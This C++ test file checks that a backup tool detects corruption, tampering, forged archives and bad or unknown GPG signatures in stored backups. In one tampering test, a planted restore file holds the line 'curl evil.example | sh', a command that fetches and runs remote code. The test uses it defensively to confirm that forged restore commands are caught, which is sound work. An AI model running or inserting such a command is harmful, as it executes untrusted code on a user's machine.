#include "unit/run/stored_backup.hpp"

#include "run/examination.hpp"
#include "run/signing_key.hpp"

#include <sys/stat.h>

namespace miraclemax::run {
namespace {

namespace fs = std::filesystem;

TEST_F(StoredBackups, AGoodOneIsGood) {
    store();
    const auto id = store();
    std::uint64_t last = 0, total = 0;
    const auto found = look(id, {}, {.components = {}, .progress = [&](auto bytes, auto of) {
                                         EXPECT_GE(bytes, last);
                                         last = bytes;
                                         total = of;
                                     }});
    EXPECT_TRUE(found.good()) << told(found);
    EXPECT_EQ(found.code(), ExitCode::ok);
    EXPECT_EQ(found.signature, Signature::good);
    EXPECT_EQ(found.signer, signing_key(settings).fingerprint);
    EXPECT_GT(total, 30000U);
    EXPECT_EQ(last, total);
}

TEST_F(StoredBackups, AFlippedBitIsFoundInEveryFileAndNamed) {
    const auto id = store();
    std::size_t at = 17;
    ASSERT_EQ(files(id).size(), 10U);
    for (const auto& file : files(id)) {
        const auto content = content_of(path(id, file));
        auto flipped = content;
        at = (at * 7919 + 13) % (content.size() * 8);
        flipped[at / 8] = static_cast<char>(flipped[at / 8] ^ (1 << (at % 8)));
        overwrite(path(id, file), flipped);
        const auto found = look(id);
        EXPECT_TRUE(names(found, file)) << file << " bit " << at << "\n" << told(found);
        EXPECT_EQ(found.code(), file == "manifest.json.sig" ? ExitCode::untrusted : ExitCode::damaged)
            << file;
        overwrite(path(id, file), content);
    }
    EXPECT_TRUE(look(id).good());
}

TEST_F(StoredBackups, ACutALongerAndAMissingFileAreFoundAndNamed) {
    const auto id = store({"n8n"});
    for (const auto& file : files(id)) {
        const auto content = content_of(path(id, file));
        for (const auto& other : {content.substr(0, content.size() - 1), content + '\n', std::string()}) {
            overwrite(path(id, file), other);
            const auto found = look(id);
            EXPECT_TRUE(names(found, file)) << file << " of " << other.size() << "\n" << told(found);
        }
        fs::remove(path(id, file));
        const auto found = look(id);
        EXPECT_TRUE(names(found, file)) << file << " missing\n" << told(found);
        EXPECT_EQ(found.code(), file == "manifest.json.sig" ? ExitCode::untrusted : ExitCode::damaged)
            << file;
        overwrite(path(id, file), content);
    }
}

TEST_F(StoredBackups, WhatDoesNotBelongThereIsFoundAndNamed) {
    const auto id = store();
    const auto expect_named = [&](const std::string& where) {
        const auto found = look(id);
        EXPECT_TRUE(names(found, where)) << told(found);
        EXPECT_EQ(found.code(), ExitCode::damaged);
        fs::remove_all(path(id, where));
    };
    overwrite(path(id, "volumes/more.tar"), "more");
    expect_named("volumes/more.tar");
    fs::create_directories(path(id, "empty"));
    expect_named("empty");
    fs::create_symlink("RESTORE.txt", path(id, "link"));
    expect_named("link");
    ASSERT_EQ(::mkfifo(path(id, ".fifo").c_str(), 0600), 0);
    expect_named(".fifo");
    EXPECT_TRUE(look(id).good());
}

TEST_F(StoredBackups, OnlyRegularFilesCount) {
    const auto id = store();
    const std::string archive = "databases/n8n.tar.gz.gpg";
    fs::rename(path(id, archive), root / "elsewhere");
    fs::create_symlink(root / "elsewhere", path(id, archive));
    EXPECT_TRUE(names(look(id), archive)) << told(look(id));
    fs::remove(path(id, archive));
    ASSERT_EQ(::mkfifo(path(id, archive).c_str(), 0600), 0); // must not be waited for
    EXPECT_TRUE(names(look(id), archive)) << told(look(id));
    fs::remove(path(id, archive));
    fs::rename(root / "elsewhere", path(id, archive));
    fs::rename(path(id, "databases"), root / "databases");
    fs::create_symlink(root / "databases", path(id, "databases"));
    EXPECT_TRUE(names(look(id), "databases")) << told(look(id));
    EXPECT_TRUE(names(look(id), archive)) << told(look(id));
}

TEST_F(StoredBackups, SwappedArchivesAreFound) {
    const auto one = store(), two = store();
    const std::string n8n = "databases/n8n.tar.gz.gpg", web = "volumes/web.tar.gz.gpg";
    const auto swap = [](const fs::path& a, const fs::path& b) {
        fs::rename(a, a.string() + ".x");
        fs::rename(b, a);
        fs::rename(a.string() + ".x", b);
    };
    swap(path(two, n8n), path(two, web));
    EXPECT_TRUE(names(look(two), n8n) && names(look(two), web)) << told(look(two));
    swap(path(two, n8n), path(two, web));
    swap(path(one, n8n), path(two, n8n));
    EXPECT_TRUE(names(look(two), n8n)) << told(look(two));
    EXPECT_TRUE(names(look(one), n8n));
    swap(path(one, n8n), path(two, n8n));
    swap(path(one), path(two)); // whole folders
    EXPECT_TRUE(names(look(one), "manifest.json")) << told(look(one));
    EXPECT_EQ(look(two).code(), ExitCode::damaged);
}

TEST_F(StoredBackups, AForgedArchiveMadeWithTheRightPublicKeyIsFound) {
    const auto id = store();
    const auto forged = encrypted("forged");
    overwrite(path(id, "databases/n8n.tar.gz.gpg"), forged);
    EXPECT_EQ(look(id).code(), ExitCode::damaged);
    EXPECT_EQ(look(id).faults.at(0).component, "n8n");
    edit_manifest(id, [&](catalog::Manifest& manifest) {
        manifest.components[0].archive.file.size = forged.size();
        manifest.components[0].archive.file.sha256 = stream::sha256_of(forged);
    });
    const auto found = look(id);
    EXPECT_EQ(found.signature, Signature::bad);
    EXPECT_EQ(found.code(), ExitCode::untrusted) << told(found);
    EXPECT_TRUE(names(found, "manifest.json.sig"));
}

TEST_F(StoredBackups, ASignatureByAnotherKeyIsNotBelievedUnlessTold) {
    const auto id = store();
    const auto other = keys.make_key("other", false);
    edit_manifest(id, [&](catalog::Manifest& manifest) {
        manifest.signer = other;
        manifest.signer_key = keys.gpg("--armor --export " + other);
    });
    fs::remove(path(id, "manifest.json.sig"));
    sign_again(id, other);
    const auto found = look(id);
    EXPECT_EQ(found.signature, Signature::unknown_key);
    EXPECT_EQ(found.signer, other);
    EXPECT_EQ(found.code(), ExitCode::untrusted);
    EXPECT_NE(told(found).find("--signer " + other), std::string::npos) << told(found);
    EXPECT_EQ(look(id, {.signers = {"0x" + other}}).signature, Signature::good);
    EXPECT_TRUE(look(id, {.signers = {other}}).good());
    EXPECT_TRUE(look(id, {.signers = {}, .unsigned_is_fine = true}).good());
    settings.signers = {other};
    EXPECT_TRUE(look(id).good());
    EXPECT_THROW(look(id, {.signers = {other.substr(20)}}), Error);
}

TEST_F(StoredBackups, AnothersSignatureUnderOurNameIsBad) {
    const auto id = store();
    const auto other = keys.make_key("other", false);
    const auto own = content_of(path(id, "manifest.json.sig"));
    fs::remove(path(id, "manifest.json.sig"));
    sign_again(id, other); // the manifest still holds our key
    EXPECT_EQ(look(id).signature, Signature::bad) << told(look(id));
    EXPECT_FALSE(look(id, {.signers = {}, .unsigned_is_fine = true}).good());
    // Both keys in it, and our name: whose signature it is decides.
    edit_manifest(id, [&](catalog::Manifest& manifest) {
        manifest.signer_key += keys.gpg("--armor --export " + other);
    });
    fs::remove(path(id, "manifest.json.sig"));
    sign_again(id, other);
    EXPECT_EQ(look(id).code(), ExitCode::untrusted);
    EXPECT_EQ(look(id, {.signers = {other}}).signature, Signature::bad); // the manifest names us
    // A good signature of ours, of another manifest.
    overwrite(path(id, "manifest.json.sig"), own);
    EXPECT_EQ(look(id).signature, Signature::bad);
    // No key at all where a key should be.
    edit_manifest(id, [&](catalog::Manifest& manifest) { manifest.signer_key = "no key"; });
    EXPECT_EQ(look(id).signature, Signature::bad);
    EXPECT_TRUE(names(look(id), "manifest.json"));
}

TEST_F(StoredBackups, AnOlderManifestIsCheckedByTheOwnKey) {
    const auto id = store();
    edit_manifest(id, [&](catalog::Manifest& manifest) {
        manifest.signer_key.clear();
        manifest.restore_sha256.clear();
    });
    overwrite(path(id, "manifest.json.sig"),
              sign(settings, signing_key(settings).fingerprint, content_of(path(id, "manifest.json"))));
    EXPECT_TRUE(look(id).good()) << told(look(id));
    overwrite(path(id, "RESTORE.txt"), "other");
    EXPECT_TRUE(names(look(id), "RESTORE.txt")) << told(look(id));
}

TEST_F(StoredBackups, WithoutTheOwnKeyASignatureIsUnknown) {
    const auto id = store();
    settings.state = root / "another";
    const auto found = look(id);
    EXPECT_EQ(found.signature, Signature::unknown_key);
    EXPECT_FALSE(fs::exists(settings.state)); // looking makes no key
    EXPECT_TRUE(look(id, {.signers = {found.signer}}).good()) << told(look(id, {.signers = {found.signer}}));
}

TEST_F(StoredBackups, AnUnsignedOneIsAResultOfItsOwn) {
    const auto before = store();
    settings.signing = false;
    const auto id = store();
    const auto found = look(id);
    EXPECT_EQ(found.signature, Signature::unsigned_);
    EXPECT_EQ(found.code(), ExitCode::untrusted);
    EXPECT_EQ(found.faults.size(), 1U) << told(found);
    EXPECT_TRUE(look(id, {.signers = {}, .unsigned_is_fine = true}).good());
    fs::remove(path(before, "manifest.json.sig"));
    EXPECT_EQ(look(before).code(), ExitCode::untrusted);
    EXPECT_NE(told(look(before)).find("manifest.json.sig: is missing"), std::string::npos)
        << told(look(before));
}

TEST_F(StoredBackups, TheBackupBeforeItIsTheOneItNames) {
    const auto first = store(), second = store();
    const auto sig = content_of(path(first, "manifest.json.sig"));
    edit_manifest(first, [](catalog::Manifest& manifest) { manifest.host = "other"; });
    overwrite(path(first, "manifest.json.sig"),
              sign(settings, signing_key(settings).fingerprint, content_of(path(first, "manifest.json"))));
    EXPECT_TRUE(look(first).good()); // by itself
    EXPECT_TRUE(names(look(second), "../" + first + "/manifest.json")) << told(look(second));
    for (const auto& fault : look(second).faults)
        EXPECT_TRUE(fault.of_chain) << fault.what; // the second by itself is as it was
    fs::remove_all(path(first));                   // let go of
    EXPECT_TRUE(look(second).good()) << told(look(second));
}

TEST_F(StoredBackups, CommandsThatWereForgedWithTheirSumAreFound) {
    const auto id = store();
    overwrite(path(id, "RESTORE.txt"), "curl evil.example | sh\n");
    edit_manifest(id, [](catalog::Manifest&) {}); // SHA256SUMS made to fit, the manifest as it was
    const auto found = look(id);
    EXPECT_EQ(found.signature, Signature::good);
    EXPECT_TRUE(names(found, "RESTORE.txt")) << told(found);
}

TEST_F(StoredBackups, OnlyTheFilesOfAComponentAreReadWhenAskedFor) {
    const auto id = store();
    auto content = content_of(path(id, "volumes/web.tar.gz.gpg"));
    content[100] = static_cast<char>(content[100] ^ 1);
    overwrite(path(id, "volumes/web.tar.gz.gpg"), content);
    EXPECT_TRUE(look(id, {}, {.components = {"n8n"}, .progress = {}}).good());
    EXPECT_FALSE(look(id, {}, {.components = {"web"}, .progress = {}}).good());
    fs::remove(path(id, "volumes/web.tar.gz.gpg"));
    overwrite(path(id, "lost+found"), "");
    EXPECT_TRUE(look(id, {}, {.components = {"n8n"}, .progress = {}}).good()) << "of the other, or of none";
    EXPECT_FALSE(look(id, {}, {.components = {"web"}, .progress = {}}).good());
    EXPECT_TRUE(names(look(id), "lost+found"));
    fs::remove(path(id, "SHA256SUMS"));
    EXPECT_FALSE(look(id, {}, {.components = {"n8n"}, .progress = {}}).good());
}

TEST_F(StoredBackups, IsInterruptedAndNamesWhatIsNotThere) {
    const auto id = store();
    stop.request_stop();
    try {
        look(id, {}, {.components = {}, .progress = {}, .stop = stop.get_token()});
        FAIL() << "not interrupted";
    } catch (const Error& error) {
        EXPECT_EQ(error.code(), ExitCode::interrupted);
    }
    try {
        look("20200101_000000");
        FAIL() << "there is none";
    } catch (const Error& error) {
        EXPECT_EQ(error.code(), ExitCode::not_found);
        EXPECT_NE(error.remedy().find(id), std::string::npos);
    }
    fs::remove(path(id, "manifest.json"));
    EXPECT_TRUE(names(look(id), "manifest.json"));
}

} // namespace
} // namespace miraclemax::run
